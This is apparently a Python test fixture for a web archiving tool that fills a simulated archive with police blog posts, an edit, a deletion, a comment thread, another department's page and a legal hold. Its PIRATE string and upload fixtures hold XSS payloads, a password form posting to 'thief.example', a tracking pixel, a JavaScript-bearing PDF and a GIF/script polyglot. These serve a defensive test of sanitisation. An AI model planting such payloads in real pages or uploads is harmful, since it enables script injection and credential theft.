"""Records that the pages of search and of one record must bear: edits, a deletion, a thread,
another department, and what somebody hostile would write or upload."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from archiver.demo.simulators.facebook import FacebookSimulator
from archiver.demo.simulators.wordpress_files import picture
from archiver.desk.access import Role
from archiver.desk.hold_order import HoldOrder
from archiver.wiring import Archive
from retention.facts import Scope
from tests.support.archive import approved, give_credentials, make_archive
from tests.support.clock import FakeClock
from tests.support.stage import Board, SharedTime, Stage
from tests.support.web import NAMES, SECTIONS

PIRATE = (
    '<script>window.ran="script"</script>'
    "<img src=x onerror=\"window.ran='onerror'\">"
    "<svg onload=\"window.ran='svg'\"><script>window.ran='svg'</script></svg>"
    "<a href=\"javascript:window.ran='link'\">press here</a>"
    "<iframe src=\"javascript:window.ran='frame'\"></iframe>"
    '<form action="https://thief.example"><input name="password"><button>go</button></form>'
    '<style>body{display:none}</style><h2 onclick="window.ran=1">Free gifts</h2>'
    '<a href="https://thief.example/gift">a gift</a>'
    '<img src="https://thief.example/pixel.png"><p style="position:fixed">for all</p>'
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.ran="file"</script></svg>'
HTML = b"<!doctype html><script>window.ran='file'</script>"
PDF = b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n"
POLYGLOT = b"GIF89a=1;window.ran='polyglot'/*" + bytes(64) + b"*/"
FILM = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(range(256)) * 64
FILES = {
    "pirate.svg": (SVG, "image/svg+xml"),
    "pirate.png": (HTML, "image/png"),
    "pirate.html": (HTML, "text/html"),
    "pirate.pdf": (PDF, "application/pdf"),
    "pirate.gif": (POLYGLOT, "image/gif"),
    "film.mp4": (FILM, "video/mp4"),
    "scene.png": (picture(3), "image/png"),
}


@dataclass(frozen=True)
class Written:
    """What the platforms call the things."""

    edited: str
    pirate: str
    deleted: str
    post: str
    comment: str
    reply: str
    library: str


def fill(tmp_path: Path, boards: tuple[Board, ...]) -> Written:
    """Capture it in `tmp_path / "home"`; four days pass."""
    clock = FakeClock()
    with make_archive(tmp_path, clock=clock, sections=SECTIONS) as archive:
        stage = Stage(archive, clock, boards)
        site = stage.wordpress(slug="police-blog")
        x = stage.x(slug="spd-x")
        edited = site.publish("Winter parking", "<p>Snow plows start at nine on Main Street.</p>")
        deleted = x.publish("The bridge on Elm Street is closed.")
        pirate = site.publish("Prize draw", PIRATE)
        post = site.publish("Road works", "<p>Potholes are filled.</p><ul><li>Main</li></ul>")
        comment = site.comment(post, "When will it be over?", name="Ned Fields")
        reply = site.comment(post, "On Friday.", name="Chief", parent=comment)
        for name, (content, mime) in FILES.items():
            site.upload(name, content, mime, alt_text=f"The file {name}")
        library = _library(stage, archive)
        for slug in ("police-blog", "spd-x", "library"):
            stage.capture(slug)
        stage.later(days=1)
        site.edit(edited, content="<p>Snow plows start at ten on Main Street and Elm Street.</p>")
        stage.capture("police-blog")
        x.delete(deleted)
        for _ in range(2):
            stage.later(days=1)
            stage.capture("spd-x")
        stage.later(days=1)
        _hold(archive, stage.record(str(edited)).id)
    for board in boards:
        board.current = None
    return Written(
        edited=str(edited),
        pirate=str(pirate),
        deleted=deleted,
        post=str(post),
        comment=str(comment),
        reply=str(reply),
        library=library,
    )


def _library(stage: Stage, archive: Archive) -> str:
    """An account of another department, whose name no one of the police shall see."""
    page = FacebookSimulator(SharedTime(stage.clock))
    stage._put_up(page)
    approved(
        archive, "facebook", page.page_id, slug="library", options={"api": page.url},
        department="Library",
    )  # fmt: skip
    give_credentials(archive, "library", page_token=page.token)
    return str(page.page.publish("Snow day: the library opens at noon.", photos=["A sledge"]))


def _hold(archive: Archive, record_id: int) -> None:
    archive.holds.place(
        HoldOrder(
            matter="Smith v. Springfield",
            issuer=NAMES[Role.LEGAL],
            scope=Scope(picks=frozenset((record_id,))),
            name="smith",
        )
    )
